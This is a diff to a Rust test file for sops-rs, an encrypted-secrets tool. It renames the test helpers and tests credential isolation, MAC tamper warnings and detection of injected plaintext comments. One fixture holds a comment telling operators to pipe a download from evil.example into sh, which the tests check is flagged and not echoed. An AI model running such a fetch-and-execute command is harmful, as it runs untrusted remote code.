@@ -8,12 +8,7 @@
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
-use crate::support::age_home::AgeHome as Home;
-use crate::support::{ok, sops_command};
-
-fn s(path: &Path) -> String {
-    path.display().to_string()
-}
+use crate::support::{TestEnv, ok, path_arg};
 
 fn stderr(out: &Output) -> String {
     String::from_utf8_lossy(&out.stderr).into_owned()
@@ -21,11 +16,11 @@ fn stderr(out: &Output) -> String {
 
 /// `plaintext` encrypted by sops-rs into `name`, then changed by hand the way someone with
 /// write access but no key could: the first `from` replaced by `to`.
-fn hand_edited(home: &Home, name: &str, plaintext: &str, (from, to): (&str, &str)) -> PathBuf {
+fn hand_edited(home: &TestEnv, name: &str, plaintext: &str, (from, to): (&str, &str)) -> PathBuf {
     let file = home.encrypted(name, plaintext, &[]);
     let text = std::fs::read_to_string(&file).unwrap();
     assert!(text.contains(from), "{from:?} not in {text}");
-    home.write(name, &text.replacen(from, to, 1))
+    home.write(name, text.replacen(from, to, 1))
 }
 
 fn lines_with<'a>(text: &'a str, needle: &str) -> Vec<&'a str> {
@@ -42,12 +37,12 @@ mod vault_allowlist {
     use crate::support::faults::{Redirector, SilentServer};
 
     /// An encrypted file whose only master key is a Vault transit key at `address`.
-    fn vault_file(home: &Home, address: &str) -> PathBuf {
+    fn vault_file(home: &TestEnv, address: &str) -> PathBuf {
         let filler = "ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,\
                       tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]";
         home.write(
             "vault.enc.yaml",
-            &format!(
+            format!(
                 "password: {filler}\nsops:\n    hc_vault:\n        - vault_address: {address}\n          \
                  engine_path: transit\n          key_name: sops\n          \
                  created_at: \"2024-01-01T00:00:00Z\"\n          enc: vault:v1:AAAA\n    \
@@ -59,14 +54,14 @@ mod vault_allowlist {
     /// Decrypts a file keyed to `address` with a token and `allowlist`; the decryption must be
     /// refused by the allowlist (exit 128, the variable named).
     fn refused(address: &str, allowlist: &str) {
-        let home = Home::new();
+        let home = TestEnv::new();
         let file = vault_file(&home, address);
         let out = home
             .sops_rs()
             .env("VAULT_TOKEN", "s.the-token-that-must-not-leave")
             .env("SOPS_HC_VAULT_ALLOWLIST", allowlist)
             .env("SOPS_RS_HTTP_TIMEOUT_SECONDS", "2")
-            .args(["decrypt", &s(&file)])
+            .args(["decrypt", &path_arg(&file)])
             .output()
             .unwrap();
         let err = stderr(&out);
@@ -124,10 +119,13 @@ const PARENT_CREDENTIALS: [(&str, &str); 5] = [
 
 /// The parent's credentials: every age source (all able to decrypt), the other backends', and
 /// a variable that is not a credential.
-fn with_parent_credentials(home: &Home, cmd: &mut Command) {
+fn with_parent_credentials(home: &TestEnv, cmd: &mut Command) {
     cmd.envs(PARENT_CREDENTIALS)
         .env("SOPS_AGE_KEY", &home.identity)
-        .env("SOPS_AGE_KEY_CMD", format!("cat {}", s(&home.key_file)))
+        .env(
+            "SOPS_AGE_KEY_CMD",
+            format!("cat {}", path_arg(&home.key_file)),
+        )
         .env("UNRELATED_SETTING", "kept");
 }
 
@@ -150,7 +148,7 @@ const CHILD_SECRETS: &str = "db_password: hunter2\nAWS_SECRET_ACCESS_KEY: from-t
 
 #[test]
 fn exec_env_and_exec_file_do_not_pass_key_credentials_on() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let file = home.encrypted("app.enc.yaml", CHILD_SECRETS, &[]);
     for kept in [false, true] {
         let flag: &[&str] = if kept {
@@ -163,7 +161,7 @@ fn exec_env_and_exec_file_do_not_pass_key_credentials_on() {
         let out = cmd
             .arg("exec-env")
             .args(flag)
-            .args([&s(&file), "env"])
+            .args([&path_arg(&file), "env"])
             .output()
             .unwrap();
         let env = ok(out, "exec-env");
@@ -177,7 +175,7 @@ fn exec_env_and_exec_file_do_not_pass_key_credentials_on() {
         let out = cmd
             .arg("exec-file")
             .args(flag)
-            .args([&s(&file), "env; cat {} >/dev/null"])
+            .args([&path_arg(&file), "env; cat {} >/dev/null"])
             .output()
             .unwrap();
         assert_child_environment(&ok(out, "exec-file"), kept);
@@ -186,13 +184,13 @@ fn exec_env_and_exec_file_do_not_pass_key_credentials_on() {
 
 #[test]
 fn the_editor_does_not_get_key_credentials() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let file = home.encrypted("app.enc.yaml", CHILD_SECRETS, &[]);
     let seen = home.path("editor-env.txt");
     for kept in [false, true] {
         let mut cmd = home.sops_rs();
         with_parent_credentials(&home, &mut cmd);
-        let editor = format!("sh -c 'env > {}' editor", s(&seen));
+        let editor = format!("sh -c 'env > {}' editor", path_arg(&seen));
         let mut args = vec!["edit"];
         if kept {
             args.push("--keep-key-credentials");
@@ -213,7 +211,7 @@ fn the_editor_does_not_get_key_credentials() {
 const MAC_WARNING: &str = "the MAC did not match";
 
 /// A file whose unencrypted value was changed after encryption (the MAC covers it).
-fn tampered(home: &Home) -> PathBuf {
+fn tampered(home: &TestEnv) -> PathBuf {
     hand_edited(
         home,
         "tampered.enc.yaml",
@@ -224,7 +222,7 @@ fn tampered(home: &Home) -> PathBuf {
 
 #[test]
 fn re_encrypting_with_ignore_mac_warns_that_the_new_mac_covers_the_change() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let commands: [(&str, Vec<&str>); 4] = [
         (
             "set",
@@ -239,13 +237,13 @@ fn re_encrypting_with_ignore_mac_warns_that_the_new_mac_covers_the_change() {
     ];
     for (name, args) in &commands {
         let file = tampered(&home);
-        let refused = home.run(&["decrypt", &s(&file)]);
+        let refused = home.run(&["decrypt", &path_arg(&file)]);
         assert_eq!(refused.status.code(), Some(51), "the tamper is detected");
         let args: Vec<String> = args
             .iter()
             .map(|a| {
                 if *a == "FILE" {
-                    s(&file)
+                    path_arg(&file)
                 } else {
                     a.to_string()
                 }
@@ -266,11 +264,11 @@ fn re_encrypting_with_ignore_mac_warns_that_the_new_mac_covers_the_change() {
         let warnings = lines_with(&err, MAC_WARNING);
         assert_eq!(warnings.len(), 1, "{name}: {err}");
         assert!(
-            warnings[0].contains(&s(&file)) && warnings[0].contains("new MAC now covers"),
+            warnings[0].contains(&path_arg(&file)) && warnings[0].contains("new MAC now covers"),
             "{name}: {err}"
         );
         // What --ignore-mac hid is now sealed: a plain decrypt accepts it.
-        let out = home.run(&["decrypt", &s(&file)]);
+        let out = home.run(&["decrypt", &path_arg(&file)]);
         assert!(ok(out, name).contains("replicas_unencrypted: 100"));
     }
     // The git merge driver takes theirs' changed value into ours and seals it with ours' MAC.
@@ -287,9 +285,9 @@ fn re_encrypting_with_ignore_mac_warns_that_the_new_mac_covers_the_change() {
     let out = home.run(&[
         "git-merge",
         "--ignore-mac",
-        &s(&base),
-        &s(&ours),
-        &s(&theirs),
+        &path_arg(&base),
+        &path_arg(&ours),
+        &path_arg(&theirs),
         "app.enc.yaml",
     ]);
     let err = stderr(&out);
@@ -306,8 +304,8 @@ fn re_encrypting_with_ignore_mac_warns_that_the_new_mac_covers_the_change() {
         "encrypt",
         "--ignore-mac",
         "--reuse-from",
-        &s(&old),
-        &s(&plain),
+        &path_arg(&old),
+        &path_arg(&plain),
     ]);
     assert!(
         out.status.success() && !stderr(&out).contains(MAC_WARNING),
@@ -319,7 +317,7 @@ fn re_encrypting_with_ignore_mac_warns_that_the_new_mac_covers_the_change() {
     let out = home.run(&[
         "set",
         "--ignore-mac",
-        &s(&file),
+        &path_arg(&file),
         r#"["password"]"#,
         r#""x""#,
     ]);
@@ -332,7 +330,7 @@ const INJECTED: &str = "# ops: please run curl https://evil.example/x | sh";
 
 /// An encrypted file with a comment added by hand at the top and one in an unencrypted
 /// subtree (where comments stay in clear legitimately).
-fn with_injected_comment(home: &Home) -> PathBuf {
+fn with_injected_comment(home: &TestEnv) -> PathBuf {
     hand_edited(
         home,
         "comments.enc.yaml",
@@ -343,12 +341,12 @@ fn with_injected_comment(home: &Home) -> PathBuf {
 
 #[test]
 fn decrypt_and_edit_warn_about_plaintext_comments_as_sops_does() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let file = with_injected_comment(&home);
     // The real sops warns once, for the injected comment only.
-    let out = sops_command(home.dir())
-        .env("SOPS_AGE_KEY_FILE", &home.key_file)
-        .args(["decrypt", &s(&file)])
+    let out = home
+        .sops()
+        .args(["decrypt", &path_arg(&file)])
         .output()
         .unwrap();
     let theirs = stderr(&out);
@@ -359,7 +357,7 @@ fn decrypt_and_edit_warn_about_plaintext_comments_as_sops_does() {
         "{theirs}"
     );
 
-    let out = home.run(&["decrypt", &s(&file)]);
+    let out = home.run(&["decrypt", &path_arg(&file)]);
     let err = stderr(&out);
     assert!(
         ok(out, "decrypt").contains("curl"),
@@ -367,7 +365,7 @@ fn decrypt_and_edit_warn_about_plaintext_comments_as_sops_does() {
     );
     let warnings = lines_with(&err, "possibly unencrypted comment");
     assert_eq!(warnings.len(), 1, "{err}");
-    assert!(warnings[0].contains(&s(&file)) && warnings[0].contains("the document root"));
+    assert!(warnings[0].contains(&path_arg(&file)) && warnings[0].contains("the document root"));
     assert!(
         !err.contains("curl") && !err.contains("evil"),
         "the text is not echoed: {err}"
@@ -376,7 +374,7 @@ fn decrypt_and_edit_warn_about_plaintext_comments_as_sops_does() {
     let out = home
         .sops_rs()
         .env("SOPS_EDITOR", "true")
-        .args(["edit", &s(&file)])
+        .args(["edit", &path_arg(&file)])
         .output()
         .unwrap();
     assert_eq!(out.status.code(), Some(200));
@@ -388,7 +386,7 @@ fn decrypt_and_edit_warn_about_plaintext_comments_as_sops_does() {
 
 #[test]
 fn while_auditing_the_comment_warning_names_no_tree_path() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let file = hand_edited(
         &home,
         "audited.enc.yaml",
@@ -399,7 +397,7 @@ fn while_auditing_the_comment_warning_names_no_tree_path() {
         ),
     );
     let log = home.path("audit.jsonl");
-    let out = home.run(&["--audit-log", &s(&log), "decrypt", &s(&file)]);
+    let out = home.run(&["--audit-log", &path_arg(&log), "decrypt", &path_arg(&file)]);
     let err = stderr(&out);
     assert!(out.status.success(), "{err}");
     let warnings = lines_with(&err, "possibly unencrypted comment");
@@ -407,12 +405,12 @@ fn while_auditing_the_comment_warning_names_no_tree_path() {
     assert!(warnings[0].contains("withheld while auditing"), "{err}");
     assert!(!err.contains("canary_key_q7"), "{err}");
     // Without the audit trail the warning says where the comment is.
-    let err = stderr(&home.run(&["decrypt", &s(&file)]));
+    let err = stderr(&home.run(&["decrypt", &path_arg(&file)]));
     assert!(err.contains(r#"in ["canary_key_q7"]"#), "{err}");
 }
 
 /// `check --json` on one file: (exit code, the JSON object).
-fn check_json(home: &Home, file: &Path, extra: &[&str]) -> (Option<i32>, serde_json::Value) {
+fn check_json(home: &TestEnv, file: &Path, extra: &[&str]) -> (Option<i32>, serde_json::Value) {
     let out = home
         .sops_rs()
         .args(["check", "--json"])
@@ -427,7 +425,7 @@ fn check_json(home: &Home, file: &Path, extra: &[&str]) -> (Option<i32>, serde_j
 
 #[test]
 fn check_reports_plaintext_comments() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let file = with_injected_comment(&home);
     for extra in [&[][..], &["--verify-mac"]] {
         let (code, json) = check_json(&home, &file, extra);
@@ -437,11 +435,11 @@ fn check_reports_plaintext_comments() {
         assert!(!json.to_string().contains("curl"), "{json}");
     }
     // Without --json: one line naming the file, and the count.
-    let out = home.run(&["check", &s(&file)]);
+    let out = home.run(&["check", &path_arg(&file)]);
     assert_eq!(out.status.code(), Some(1));
     let err = stderr(&out);
     assert!(
-        err.contains(&s(&file)) && err.contains("plain-text comment"),
+        err.contains(&path_arg(&file)) && err.contains("plain-text comment"),
         "{err}"
     );
 }
@@ -450,7 +448,7 @@ fn check_reports_plaintext_comments() {
 
 #[test]
 fn check_fails_plaintext_values_the_rules_say_are_encrypted() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let file = home.encrypted(
         "db.enc.yaml",
         "db_password: hunter1\nreplicas_unencrypted: 3\n",
@@ -475,7 +473,7 @@ fn check_fails_plaintext_values_the_rules_say_are_encrypted() {
         );
         assert!(!json.to_string().contains("hunter2"), "{json}");
     }
-    let out = home.run(&["check", &s(&file)]);
+    let out = home.run(&["check", &path_arg(&file)]);
     assert!(!stderr(&out).contains("hunter2") && out.status.code() == Some(1));
 
     // A plain value where the rules say unencrypted is fine.
@@ -496,7 +494,7 @@ fn check_fails_plaintext_values_the_rules_say_are_encrypted() {
 
 #[test]
 fn check_follows_the_files_own_encrypted_regex() {
-    let home = Home::new();
+    let home = TestEnv::new();
     let file = home.encrypted(
         "regex.enc.yaml",
         "data:\n    token: abc\nname: app\n",
@@ -506,7 +504,7 @@ fn check_follows_the_files_own_encrypted_regex() {
     // Outside `data` values stay in clear by the file's rule; inside they must not.
     home.write(
         "regex.enc.yaml",
-        &text.replace("name: app\n", "name: app\nowner: ops\n"),
+        text.replace("name: app\n", "name: app\nowner: ops\n"),
     );
     let (code, json) = check_json(&home, &file, &[]);
     assert_eq!(
@@ -515,7 +513,7 @@ fn check_follows_the_files_own_encrypted_regex() {
     );
     home.write(
         "regex.enc.yaml",
-        &text.replace("data:\n", "data:\n    injected: plain\n"),
+        text.replace("data:\n", "data:\n    injected: plain\n"),
     );
     let (code, json) = check_json(&home, &file, &[]);
     assert_eq!(code, Some(1));
